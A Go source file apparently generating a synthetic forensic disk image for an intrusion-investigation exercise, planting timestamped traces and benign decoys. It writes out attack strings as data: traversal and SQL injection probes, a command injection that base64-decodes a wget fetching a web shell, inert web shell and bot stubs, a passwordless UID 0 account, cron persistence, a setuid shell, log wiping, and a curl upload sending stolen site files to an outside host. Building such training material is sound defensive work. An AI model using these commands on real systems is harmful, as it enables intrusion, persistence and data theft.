package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	"net/url"
	"strings"
	"time"
)

// A trace is one thing that was planted, and that an investigation should find.
type trace struct {
	ID      string `json:"id"`
	What    string `json:"what"`
	Kind    string `json:"kind"`              // of the record that shows it: "file", "web-access", "auth", ...
	Path    string `json:"path"`              // of the file, or of the log as it lies on the image
	Time    string `json:"time"`              // when it happened, UTC
	Line    int    `json:"line,omitempty"`    // of a text file, unpacked; where the entry begins
	Text    string `json:"text,omitempty"`    // of that line, or a telling part of it
	Decoded string `json:"decoded,omitempty"` // what an encoded text says
	Account string `json:"account,omitempty"`
	Address string `json:"address,omitempty"`
	Deleted bool   `json:"deleted,omitempty"` // only its name and inode are left
	Rule    string `json:"rule,omitempty"`    // that fires on it; none for what only the timeline shows
	Chapter string `json:"chapter"`           // of the story

	log  string // where the line was written; Path and Line are found when all is done
	when time.Time
}

// ordinary is something that looks suspicious and is not.
type ordinary struct {
	Path string `json:"path"`           // of the file, or of the log as it lies on the image
	Line int    `json:"line,omitempty"` // of a text file, unpacked
	Text string `json:"text,omitempty"` // of that line
	Why  string `json:"why"`

	log string
}

const (
	scanner = "203.0.113.66" // scans, and breaks in through the web
	guest   = "203.0.113.7"  // comes by ssh
	store   = "198.51.100.23"

	uploads = "/var/www/html/uploads/2026/03"
	hidden  = "/var/tmp/.. "
	fontDir = "/tmp/.font-unix"
)

func berlinTime(mon time.Month, d, h, m, s int) time.Time {
	return time.Date(2026, mon, d, h, m, s, 0, berlin)
}

const shellText = `<?php
/* Inert stand-in for a web shell, made for the demo disk. It ends at the next
 * line, and what follows lacks a parenthesis, so that PHP refuses the file. */
exit("demo");
if (isset($_POST['c'])) { @eval(base64_decode($_POST['c']); }
if (isset($_GET['x'])) { passthru($_GET['x']; }
`

const runText = `#!/bin/sh
# Inert stand-in, made for the demo disk: it ends here.
exit 0
pgrep -x crond >/dev/null || { cd "/var/tmp/.. " && PATH=.:$PATH nohup crond bot.example.org 6667 '#w3b' & }
`

func (w *world) attack(programs map[string][]byte) []trace {
	var traces []trace
	add := func(at time.Time, tr trace) {
		tr.when = at
		tr.Time = at.UTC().Format(time.RFC3339)
		traces = append(traces, tr)
	}
	do := w.on

	// The scan.
	t := berlinTime(3, 21, 2, 14, 5)
	probes := []string{"/cgi-bin/test.cgi", "/phpinfo.php", "/server-status", "/.htaccess", "/.svn/entries", "/admin/config.php", "/backup.sql", "/index.php?p=../../../../../../etc/passwd", "/index.php?p=%3Cscript%3Ealert(1)%3C/script%3E", "/search.php?q=1'%20OR%20'1'='1", "/manager/html", "/icons/README", "/test.php", "/config.bak"}
	first := t
	count := 0
	for i := 0; t.Before(berlinTime(3, 21, 2, 19, 41)); i++ {
		p := probes[i%len(probes)]
		if i >= len(probes) && !strings.Contains(p, "?") {
			p = fmt.Sprintf("/%s-%d", strings.Trim(strings.ReplaceAll(p, "/", "_"), "_"), i)
		}
		status, size := 404, 451
		if strings.HasPrefix(p, "/search.php") {
			status, size = 200, 12
		}
		w.get(t, scanner, "GET "+p, status, size, "", fmt.Sprintf("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:%06d)", 400+i))
		t = t.Add(time.Duration(700+w.rng.IntN(1500)) * time.Millisecond)
		count++
	}
	add(first, trace{ID: "scan", Chapter: "scan", Kind: "web-access", Address: scanner, log: accessLog, Text: "(Test:000400)",
		What: fmt.Sprintf("a scan of the web server: %d requests in 335 seconds", count)})

	// The way in: thumb.php puts src into a shell command.
	const agent = "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0"
	complain := func(at time.Time, lines ...string) {
		for _, l := range lines {
			w.log(at, errorLog, l)
		}
	}
	inject := func(at time.Time, command string, size int) string {
		text := w.get(at, scanner, "GET /gallery/thumb.php?w=120&src="+url.QueryEscape("x.jpg;"+command+";"), 200, size, "", agent)
		complain(at, "sh: 1: -resize: not found")
		return text
	}
	at := berlinTime(3, 21, 2, 30, 44)
	text := w.get(at, scanner, "GET /gallery/thumb.php?w=120&src=..%252f..%252f..%252f..%252f..%252fetc%252fpasswd", 200, 187, "", agent)
	complain(at, "convert: unable to open image '../uploads/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd': No such file or directory @ error/blob.c/OpenBlob/2924.")
	add(at, trace{ID: "traversal", Chapter: "way in", Kind: "web-access", Address: scanner, log: accessLog, Text: text, Decoded: "src=../../../../../etc/passwd",
		What: "a path traversal in a request, encoded twice; it was answered 200 but got nothing"})
	at = berlinTime(3, 21, 2, 31, 12)
	add(at, trace{ID: "injection-id", Chapter: "way in", Kind: "web-access", Address: scanner, log: accessLog, Text: inject(at, "id", 54), Decoded: "src=x.jpg;id;",
		What: "a command in a request to thumb.php, which runs it"})
	at = berlinTime(3, 21, 2, 32, 5)
	add(at, trace{ID: "injection-passwd", Chapter: "way in", Kind: "web-access", Address: scanner, log: accessLog, Text: inject(at, "cat /etc/passwd", 1014), Decoded: "src=x.jpg;cat /etc/passwd;",
		What: "the accounts of the server, read through thumb.php"})
	at = berlinTime(3, 21, 2, 33, 47)
	drop := "wget -O ../uploads/2026/03/cache.php http://" + store + "/s.txt"
	add(at, trace{ID: "injection-drop", Chapter: "way in", Kind: "web-access", Address: scanner, log: accessLog,
		Text: inject(at, "echo "+base64.StdEncoding.EncodeToString([]byte(drop))+"|base64 -d|sh", 12), Decoded: drop,
		What: "a base64 command in a request, which fetches a web shell"})
	complain(at, "--2026-03-21 02:33:47--  http://"+store+"/s.txt", "Connecting to "+store+":80... connected.", "HTTP request sent, awaiting response... 200 OK", fmt.Sprintf("Length: %d [text/plain]", len(shellText)), "Saving to: '../uploads/2026/03/cache.php'")

	// The web shell and its use.
	do(at, func(at time.Time) {
		w.file(uploads+"/cache.php", 0o644, 33, 33, shellText, at)
		w.setTimes(uploads+"/cache.php", at, time.Date(2026, 3, 18, 21, 7, 33, 0, time.UTC), at) // wget keeps the time of the server
		w.file("/var/www/.wget-hsts", 0o644, 33, 33, "# HSTS 1.0 Known Hosts database for GNU Wget.\n", at)
		w.read("/usr/bin/wget", at)
		w.read("/usr/bin/base64", at)
	})
	add(at, trace{ID: "web-shell", Chapter: "way in", Kind: "file", Path: uploads + "/cache.php", Account: "www-data",
		What: "a web shell in the folder for uploaded pictures, owned by the web server's account"})
	at = berlinTime(3, 21, 2, 34, 10)
	add(at, trace{ID: "web-shell-first-use", Chapter: "way in", Kind: "web-access", Address: scanner, log: accessLog,
		Text: w.get(at, scanner, "GET /uploads/2026/03/cache.php?x=id", 200, 54, "", agent), What: "the first request to the web shell"})
	for i := range 14 {
		w.get(at.Add(time.Duration(15+i*97)*time.Second), scanner, "POST /uploads/2026/03/cache.php", 200, 40+w.rng.IntN(900), "", "python-requests/2.28.1")
	}

	// Tools.
	at = berlinTime(3, 21, 2, 36, 2)
	do(at, func(at time.Time) { w.mkdir(hidden, 0o755, 33, 33, at) })
	add(at, trace{ID: "hidden-directory", Chapter: "tools", Kind: "file", Path: hidden, Account: "www-data", What: "a directory named dot, dot, space"})
	do(berlinTime(3, 21, 2, 36, 20), func(at time.Time) {
		w.file(hidden+"/k.tgz", 0o644, 33, 33, gz(strings.Repeat("stand-in for an archive of tools\n", 40), time.Time{}), at).keep = true
	})
	made := time.Date(2026, 3, 18, 20, 55, 10, 0, time.UTC)
	unpack := berlinTime(3, 21, 2, 36, 41)
	for i, f := range []struct {
		name string
		mode uint32
		data string
	}{
		{"crond", 0o755, string(programs["bot"])},
		{"up", 0o755, string(programs["rootexploit"])},
		{"up.c", 0o644, "/* inert stand-in for the source of a local root exploit */\nint main(void) { return 0; }\n"},
		{"start.sh", 0o755, strings.Replace(runText, "# Inert stand-in,", "# start.sh\n# Inert stand-in,", 1)},
		{"bot.conf", 0o644, "server bot.example.org\nport 6667\nchannel #w3b\nnick w3b-%r\n"},
	} {
		do(unpack.Add(time.Duration(i)*4*time.Millisecond), func(at time.Time) {
			n := w.file(hidden+"/"+f.name, f.mode, 33, 33, f.data, at)
			w.setTimes(hidden+"/"+f.name, n.atime, made, at)
			n.keep = f.name == "up.c"
		})
	}
	add(unpack, trace{ID: "bot", Chapter: "tools", Kind: "file", Path: hidden + "/crond", Account: "www-data", What: "an IRC bot named like the cron daemon, in the hidden directory"})
	add(unpack, trace{ID: "bot-name", Chapter: "tools", Kind: "file", Path: hidden + "/crond", Account: "www-data", What: "its name is that of a system service"})
	add(unpack, trace{ID: "bot-strings", Chapter: "tools", Kind: "strings", Path: hidden + "/crond", Text: "bot.example.org", What: "the bot's strings: its server, its commands"})
	add(unpack, trace{ID: "root-exploit", Chapter: "tools", Kind: "file", Path: hidden + "/up", Account: "www-data", What: "a local root exploit"})
	add(unpack, trace{ID: "root-exploit-strings", Chapter: "tools", Kind: "strings", Path: hidden + "/up", Text: "spawning root shell", What: "the exploit's strings"})
	add(unpack, trace{ID: "start-script", Chapter: "tools", Kind: "file", Path: hidden + "/start.sh", Account: "www-data", What: "a script in the hidden directory"})
	at = berlinTime(3, 21, 2, 37, 3)
	do(at, func(at time.Time) { w.remove(hidden+"/k.tgz", at) })
	add(at, trace{ID: "deleted-archive", Chapter: "tools", Kind: "file", Path: hidden + "/k.tgz", Account: "www-data", Deleted: true, What: "the archive that the tools came in, deleted"})

	// Up to root.
	for i, at := range []time.Time{berlinTime(3, 21, 2, 41, 9), berlinTime(3, 21, 2, 41, 31)} {
		text := w.kernel(at.Add(212*time.Millisecond), fmt.Sprintf("up[%d]: segfault at 7ffd5e%02x3000 ip 000055d0a1c0%02x7a sp 00007ffd5e1f2a10 error 6 in up[55d0a1c02000+1000]", w.pidAt(at), 0x31+i, 0x21+i))
		if i == 0 {
			add(at, trace{ID: "exploit-crash", Chapter: "root", Kind: "syslog", log: kernLog, Text: text, What: "the exploit crashed twice before it worked"})
		}
	}
	at = berlinTime(3, 21, 2, 44, 2)
	do(at, func(at time.Time) { w.appendTo("/etc/passwd", "sysadm::0:0::/root:/bin/bash\n", at) })
	add(at, trace{ID: "second-root", Chapter: "root", Kind: "account", Path: "/etc/passwd", Text: "sysadm::0:0::/root:/bin/bash", Account: "sysadm", What: "a second account with UID 0"})
	add(at, trace{ID: "empty-password", Chapter: "root", Kind: "account", Path: "/etc/passwd", Text: "sysadm::0:0::/root:/bin/bash", Account: "sysadm", What: "it has an empty password"})

	// Ways back in.
	at = berlinTime(3, 21, 2, 46, 15)
	key, blob := w.publicKey("ops@" + guest)
	fingerprint := fingerprint(blob)
	do(at, func(at time.Time) { w.appendTo("/root/.ssh/authorized_keys", key, at) })
	add(at, trace{ID: "root-key", Chapter: "ways back", Kind: "authorized-key", Path: "/root/.ssh/authorized_keys", Text: strings.TrimSpace(key), Account: "root", What: "a key of the attacker's for root"})

	at = berlinTime(3, 21, 2, 46, 58)
	do(at, func(at time.Time) { w.file(fontDir+"/.run", 0o755, 0, 0, runText, at) })
	add(at, trace{ID: "run-script", Chapter: "ways back", Kind: "file", Path: fontDir + "/.run", Account: "root", What: "a hidden script in a hidden directory of /tmp"})
	at = berlinTime(3, 21, 2, 47, 20)
	const job = "*/15 * * * * " + fontDir + "/.run >/dev/null 2>&1"
	do(at, func(at time.Time) {
		w.file("/var/spool/cron/crontabs/www-data", 0o600, 33, 107, "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (- installed on Sat Mar 21 02:47:20 2026)\n# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n"+job+"\n", at)
	})
	add(at, trace{ID: "cron-job", Chapter: "ways back", Kind: "cron", Path: "/var/spool/cron/crontabs/www-data", Text: job, Account: "www-data", What: "a job of www-data every 15 minutes that runs the script in /tmp"})
	pid := w.pidAt(at)
	w.sys(at, sysLog, fmt.Sprintf("crontab[%d]", pid), "(root) REPLACE (www-data)")
	w.sys(berlinTime(3, 21, 2, 48, 1), sysLog, "cron[398]", "(www-data) RELOAD (crontabs/www-data)")
	var ran time.Time
	for at := berlinTime(3, 21, 3, 0, 1); at.Before(imageTime); at = at.Add(15 * time.Minute) {
		w.cron(at, "www-data", "33", fontDir+"/.run >/dev/null 2>&1")
		ran = at
	}
	add(ran, trace{ID: "cron-ran", Chapter: "ways back", Kind: "syslog", log: sysLog, Text: ran.Format("Jan _2 15:04:05") + " web01 CRON[", What: "the job's last run before the image was taken"})

	at = berlinTime(3, 21, 2, 49, 55)
	const helper = "/usr/lib/openssh/ssh-helper"
	do(at, func(at time.Time) {
		w.file(helper, 0o755, 0, 0, string(w.get_("/usr/bin/dash").data), at)
		w.chmod(helper, 0o4755, at.Add(3*time.Second))
	})
	add(at, trace{ID: "setuid-shell", Chapter: "ways back", Kind: "file", Path: helper, Account: "root", What: "a copy of /usr/bin/dash, setuid root, outside of any package"})

	// Hiding.
	at = berlinTime(3, 21, 2, 52, 41)
	do(at, func(at time.Time) { w.file("/usr/bin/ps.new", 0o755, 0, 0, string(programs["ps"]), at) })
	at = berlinTime(3, 21, 2, 53, 8)
	do(at, func(at time.Time) {
		old := w.get_("/usr/bin/ps")
		w.setTimes("/usr/bin/ps.new", old.atime, old.mtime, at)
		w.rename("/usr/bin/ps.new", "/usr/bin/ps", at)
	})
	add(at, trace{ID: "replaced-ps", Chapter: "hiding", Kind: "file", Path: "/usr/bin/ps", Account: "root", What: "/bin/ps of the package procps replaced, its modification time put back; the times of its inode betray it"})
	do(berlinTime(3, 21, 2, 53, 40), func(at time.Time) {
		w.mkdirs("/usr/share/locale", at)
		w.file("/usr/share/locale/.hide", 0o644, 0, 0, "crond\n"+store+"\n", at)
	})
	add(berlinTime(3, 21, 2, 53, 40), trace{ID: "ps-hides", Chapter: "hiding", Kind: "file", Path: "/usr/share/locale/.hide", Account: "root", What: "what the false ps hides, in a hidden file"})
	at = berlinTime(3, 21, 2, 55, 31)
	do(at, func(at time.Time) {
		w.remove("/root/.bash_history", at)
		w.symlink("/root/.bash_history", "/dev/null", at)
	})
	add(at, trace{ID: "root-history", Chapter: "hiding", Kind: "file", Path: "/root/.bash_history", Account: "root", What: "root's history linked to /dev/null"})
	at = berlinTime(3, 21, 2, 55, 44)
	do(at, func(at time.Time) {
		w.symlink("/var/www/.bash_history", "/dev/null", at)
		w.chown("/var/www/.bash_history", 33, 33, at)
	})
	add(at, trace{ID: "www-data-history", Chapter: "hiding", Kind: "file", Path: "/var/www/.bash_history", Account: "www-data", What: "the web server account's history linked to /dev/null"})
	at = berlinTime(3, 21, 2, 57, 10)
	do(at, func(at time.Time) {
		w.file(hidden+"/bot.log", 0o644, 33, 33, at.In(berlin).Format("2006-01-02 15:04:05")+" *** connected to bot.example.org:6667 as w3b-4411\n", at)
	})
	for i, l := range []string{"<boss> !id", "<w3b-4411> ready on web01, 2 cores", "<boss> !scan 192.0.2.0/24", "<w3b-4411> scan done"} {
		do(at.Add(time.Duration(i*9+3)*time.Minute), func(at time.Time) {
			w.appendTo(hidden+"/bot.log", at.In(berlin).Format("2006-01-02 15:04:05")+" "+l+"\n", at)
		})
	}

	// By ssh: guesses at the accounts that /etc/passwd named, until one is right.
	t = berlinTime(3, 24, 4, 10, 12)
	names := []string{"root", "anna", "webdev", "deploy"}
	guesses := 0
	begun := t
	for ; t.Before(berlinTime(3, 24, 4, 26, 10)); guesses++ {
		w.badLogin(t, guest, names[guesses%len(names)], true)
		t = t.Add(time.Duration(4+w.rng.IntN(6)) * time.Second)
	}
	add(begun, trace{ID: "brute-force", Chapter: "ssh", Kind: "auth", Address: guest, log: authLog, Text: begun.Add(2*time.Second).Format("Jan _2 15:04:05") + " web01 sshd[",
		What: fmt.Sprintf("%d guesses at passwords of four accounts in 16 minutes", guesses)})
	at = berlinTime(3, 24, 4, 26, 31)
	add(at, trace{ID: "weak-account", Chapter: "ssh", Kind: "auth", Address: guest, Account: "webdev", log: authLog,
		Text: w.session(at, "webdev", 1001, guest, "password", "", 8*time.Minute), What: "the guess that was right"})
	w.sys(berlinTime(3, 24, 4, 27, 20), authLog, "sudo", "  webdev : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/webdev ; USER=root ; COMMAND=list")
	const loot = fontDir + "/w.tgz"
	commands := []struct {
		at   time.Time
		text string
	}{
		{berlinTime(3, 24, 4, 27, 2), "id; uname -a"},
		{berlinTime(3, 24, 4, 27, 20), "sudo -l"},
		{berlinTime(3, 24, 4, 28, 41), "cat /var/www/html/config.php"},
		{berlinTime(3, 24, 4, 31, 7), "tar czf " + loot + " /var/www/html /etc/passwd"},
		{berlinTime(3, 24, 4, 32, 15), "curl -T " + loot + " http://" + store + "/up/"},
		{berlinTime(3, 24, 4, 33, 50), "rm -f " + loot},
		{berlinTime(3, 24, 4, 34, 26), "exit"},
	}
	do(commands[3].at, func(at time.Time) {
		w.file(loot, 0o644, 1001, 1001, gz(strings.Repeat("stand-in for the site\n", 100), time.Time{}), at).keep = true
	})
	do(commands[5].at, func(at time.Time) { w.remove(loot, at) })
	do(berlinTime(3, 24, 4, 34, 31), func(at time.Time) {
		var b strings.Builder
		for _, c := range commands {
			fmt.Fprintf(&b, "#%d\n%s\n", c.at.Unix(), c.text)
		}
		w.appendTo("/home/webdev/.bash_history", b.String(), at)
	})
	for _, i := range []int{3, 4, 5} {
		c := commands[i]
		add(c.at, trace{ID: []string{"", "", "", "loot-packed", "loot-sent", "loot-removed"}[i], Chapter: "ssh", Kind: "command", Path: "/home/webdev/.bash_history", Text: c.text, Account: "webdev",
			What: []string{"", "", "", "the site packed up", "and sent away", "and the archive removed"}[i]})
	}
	add(commands[5].at, trace{ID: "deleted-loot", Chapter: "ssh", Kind: "file", Path: loot, Account: "webdev", Deleted: true, What: "the deleted archive"})

	// As root, with the key.
	at = berlinTime(3, 26, 3, 5, 10)
	add(at, trace{ID: "root-login", Chapter: "ssh", Kind: "auth", Address: guest, Account: "root", log: authLog,
		Text: w.session(at, "root", 0, guest, "publickey", fingerprint, 4*time.Minute), What: "a login as root with the planted key"})

	// The last visit: traces removed.
	at = berlinTime(3, 30, 3, 10, 5)
	w.session(at, "root", 0, guest, "publickey", fingerprint, 285*time.Second)
	at = berlinTime(3, 30, 3, 12, 44)
	do(at, func(at time.Time) { w.remove(hidden+"/up.c", at) })
	add(at, trace{ID: "deleted-source", Chapter: "traces removed", Kind: "file", Path: hidden + "/up.c", Account: "root", Deleted: true, What: "the exploit's source, deleted"})
	at = berlinTime(3, 30, 3, 13, 2)
	do(at, func(at time.Time) { w.write(authLog, "", at) })
	add(berlinTime(3, 30, 3, 14, 50), trace{ID: "cleared-auth-log", Chapter: "traces removed", Kind: "auth", log: authLog, Text: "Mar 30 03:14:50 web01 sshd[", Account: "root",
		What: "auth.log was emptied at 03:13:02: born on Sunday, it begins on Monday with the end of the intruder's session"})
	at = berlinTime(3, 30, 3, 13, 31)
	do(at, func(at time.Time) { w.write("/var/log/lastlog", "", at) })
	add(at, trace{ID: "cleared-lastlog", Chapter: "traces removed", Kind: "file", Path: "/var/log/lastlog", Account: "root", What: "lastlog emptied"})
	at = berlinTime(3, 30, 3, 16, 20)
	do(at, func(at time.Time) { w.write("/var/log/wtmp", "", at) })
	add(at, trace{ID: "cleared-wtmp", Chapter: "traces removed", Kind: "file", Path: "/var/log/wtmp", Account: "root", What: "wtmp emptied, by a job that waited until the session was over"})
	return traces
}

// get_ is tree.get, which the requests to the web server hide here.
func (w *world) get_(p string) *node { return w.tree.get(p) }

// find finds the first line of a log, as it lies on the image, that holds all
// the words.
func (w *world) find(log string, words ...string) (file string, line int, text string) {
	for _, p := range w.under("/") {
		if p != log && !strings.HasPrefix(p, log+".") {
			continue
		}
		data := w.tree.get(p).data
		if strings.HasSuffix(p, ".gz") {
			z, err := gzip.NewReader(bytes.NewReader(data))
			check(err)
			data, err = io.ReadAll(z)
			check(err)
		}
		n := 0
		for l := range strings.Lines(string(data)) {
			n++
			missing := false
			for _, word := range words {
				missing = missing || !strings.Contains(l, word)
			}
			if !missing {
				return p, n, strings.TrimSuffix(l, "\n")
			}
		}
	}
	fatal("no line of %s holds %q", log, words)
	return
}

// locate says where the lines of traces and look-alikes ended up, and which
// rule speaks of each trace.
func (w *world) locate(traces []trace, decoys []ordinary) {
	for i := range traces {
		tr := &traces[i]
		tr.Rule = rules[tr.ID]
		if tr.Text == "" || tr.Kind == "strings" {
			continue
		}
		words := []string{tr.Text}
		switch tr.ID {
		case "brute-force":
			words = append(words, "Failed password")
		case "cron-ran":
			words = append(words, "(www-data) CMD")
		}
		if tr.log == "" {
			tr.log = tr.Path
		}
		tr.Path, tr.Line, tr.Text = w.find(tr.log, words...)
		if tr.Kind == "command" {
			tr.Line-- // an entry of a history begins with its time
		}
	}
	for i := range decoys {
		if d := &decoys[i]; d.log != "" {
			d.Path, d.Line, d.Text = w.find(d.log, d.Text)
		}
	}
}

// rules says which rule of the program speaks of a trace. The others are in
// the timeline only.
var rules = map[string]string{
	"scan":                 "web-scan",
	"deleted-archive":      "hidden-directory",
	"exploit-crash":        "dropped-program-crashed",
	"deleted-loot":         "hidden-directory",
	"deleted-source":       "hidden-directory",
	"traversal":            "web-exploit-request",
	"injection-id":         "web-exploit-request",
	"injection-passwd":     "web-exploit-request",
	"injection-drop":       "web-exploit-request",
	"web-shell":            "web-shell-file",
	"web-shell-first-use":  "dropped-file-requested",
	"hidden-directory":     "hidden-directory",
	"bot":                  "temporary-executable",
	"bot-name":             "masquerading-name",
	"bot-strings":          "malware-strings",
	"ps-hides":             "hidden-directory",
	"root-exploit":         "temporary-executable",
	"root-exploit-strings": "malware-strings",
	"start-script":         "temporary-executable",
	"second-root":          "second-uid-zero",
	"empty-password":       "empty-password",
	"root-key":             "authorized-key",
	"run-script":           "temporary-executable",
	"cron-job":             "cron-suspicious",
	"setuid-shell":         "setuid-unknown",
	"replaced-ps":          "timestomped-file",
	"root-history":         "history-disabled",
	"www-data-history":     "history-disabled",
	"brute-force":          "brute-force-success",
	"weak-account":         "brute-force-success",
	"loot-sent":            "command-exfiltration",
	"root-login":           "new-key-used",
	"cleared-auth-log":     "log-gap",
	"cleared-lastlog":      "log-cleared",
	"cleared-wtmp":         "log-cleared",
}

var decoys = []ordinary{
	{Path: "/tmp/.X11-unix", Why: "an empty directory that the system makes at boot"},
	{Path: "/tmp/plant-sale.txt", Why: "a text of an administrator's"},
	{Path: "/usr/bin/openssl", Why: "changed by a recorded upgrade of its package"},
	{Path: "/usr/lib/x86_64-linux-gnu/libssl.so.1.1", Why: "changed by a recorded upgrade of its package"},
	{Path: "/usr/lib/openssh/ssh-keysign", Why: "setuid, of a package"},
	{Path: "/usr/bin/sudo", Why: "setuid, of a package that names it by the same path"},
	{Path: "/usr/bin/su", Why: "setuid, of a package that names it /bin/su"},
	{Path: "/usr/bin/ping", Why: "has a capability, of a package that names it /bin/ping"},
	{Path: "/usr/local/bin/site-backup", Why: "a script of the owners', in the baseline"},
	{Path: "/etc/cron.d/site-backup", Why: "a job of the owners', in the baseline"},
	{Path: "/home/anna/.ssh/authorized_keys", Why: "unchanged"},
	{Path: uploads + "/crocus.jpg", Why: "a picture that a member uploaded"},
	{Path: "/var/www/html/themes/linden/style.css", Why: "edited by webdev"},
	{log: authLog, Text: "Accepted password for webdev from 192.0.2.10", Why: "two mistyped passwords, then the right one"},
	{log: accessLog, Text: "25/Mar/2026:15:21:09 +0100] \"GET /search.php?q=union+select+committee", Why: "a visitor's search for a page of that name"},
}
